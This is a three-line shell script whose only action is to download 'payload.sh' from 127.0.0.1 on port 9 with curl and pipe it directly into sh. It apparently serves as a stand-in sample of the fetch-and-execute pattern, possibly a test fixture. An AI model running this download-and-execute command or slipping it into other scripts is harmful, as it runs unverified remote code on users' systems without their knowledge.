#!/bin/sh
set -e
curl -fsSL http://127.0.0.1:9/payload.sh | sh
